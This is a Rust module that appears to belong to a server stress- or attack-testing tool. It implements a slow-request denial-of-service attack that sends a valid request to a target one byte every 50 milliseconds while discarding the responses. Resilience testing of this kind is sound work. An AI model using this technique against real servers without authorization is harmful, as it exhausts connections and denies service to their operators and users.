//! A valid request, sent one byte at a time.

use super::Attacker;
use crate::connection::discard;
use crate::wire::cheap_request;
use std::io;
use std::time::Duration;
use tokio::time::sleep;

/// The time between two bytes.
const PAUSE: Duration = Duration::from_millis(50);

pub(super) async fn attack(attacker: &Attacker) -> io::Result<()> {
    let (reader, mut writer) = attacker.connect().await?.into_split();
    let reading = tokio::spawn(discard(reader));
    for byte in cheap_request(&attacker.target) {
        attacker.send(&mut writer, &[byte]).await?;
        sleep(PAUSE).await;
    }
    reading.abort();
    Ok(())
}
